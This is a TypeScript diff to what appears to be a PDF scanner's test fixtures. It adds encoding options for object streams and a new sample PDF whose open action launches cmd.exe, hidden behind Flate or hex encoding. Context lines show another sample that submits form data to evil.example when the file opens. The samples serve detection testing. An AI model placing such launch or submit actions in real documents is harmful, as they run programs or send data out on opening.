@@ -12,6 +12,8 @@ export function minimalPdf(options: {
   page?: string;
   extra?: readonly string[];
   objectStream?: boolean;
+  /** How the object stream is stored: Flate (as writers do), as it is, or hex over Flate. */
+  objectStreamFilter?: ObjectStreamFilter;
 }): Buffer {
   const bodies = [
     `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''} >>`,
@@ -19,8 +21,12 @@ export function minimalPdf(options: {
     `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${options.page ?? ''} >>`,
     ...(options.extra ?? []),
   ];
-  return options.objectStream ? withObjectStream(bodies) : withXrefTable(bodies);
+  return options.objectStream
+    ? withObjectStream(bodies, options.objectStreamFilter ?? 'flate')
+    : withXrefTable(bodies);
 }
+
+type ObjectStreamFilter = 'flate' | 'none' | 'hexFlate';
 
 const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
 
@@ -38,7 +44,7 @@ function withXrefTable(bodies: readonly string[]): Buffer {
   return Buffer.from(text, 'latin1');
 }
 
-function withObjectStream(bodies: readonly string[]): Buffer {
+function withObjectStream(bodies: readonly string[], filter: ObjectStreamFilter): Buffer {
   const isStream = (body: string) => body.includes('stream\n');
   const packed = bodies.flatMap((body, index) => (isStream(body) ? [] : [index + 1]));
   const streamNumber = bodies.length + 1;
@@ -51,7 +57,19 @@ function withObjectStream(bodies: readonly string[]): Buffer {
     objects += `${bodies[number - 1]}\n`;
   }
   const head = `${pairs.join(' ')}\n`;
-  const data = deflateSync(Buffer.from(head + objects, 'latin1'));
+  const plain = Buffer.from(head + objects, 'latin1');
+  const data =
+    filter === 'none'
+      ? plain
+      : filter === 'hexFlate'
+        ? Buffer.from(`${deflateSync(plain).toString('hex')}>`, 'latin1')
+        : deflateSync(plain);
+  const filterEntry =
+    filter === 'none'
+      ? ''
+      : filter === 'hexFlate'
+        ? '/Filter [/ASCIIHexDecode /FlateDecode] '
+        : '/Filter /FlateDecode ';
 
   const chunks: Buffer[] = [Buffer.from(HEADER, 'latin1')];
   let length = chunks[0]?.length ?? 0;
@@ -70,7 +88,7 @@ function withObjectStream(bodies: readonly string[]): Buffer {
   write(streamNumber, [
     Buffer.from(
       `${streamNumber} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${head.length} ` +
-        `/Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
+        `${filterEntry}/Length ${data.length} >>\nstream\n`,
       'latin1',
     ),
     data,
@@ -141,6 +159,13 @@ export const activePdfs = {
   openActionSubmitForm: () =>
     minimalPdf({
       catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
+    }),
+  /** Starts a program when the document is opened, in an object stream stored as given. */
+  openActionLaunchPacked: (objectStreamFilter: ObjectStreamFilter) =>
+    minimalPdf({
+      catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>',
+      objectStream: true,
+      objectStreamFilter,
     }),
   /** Starts a program when the page is opened, packed in an object stream. */
   pageOpenLaunch: (objectStream = false) =>
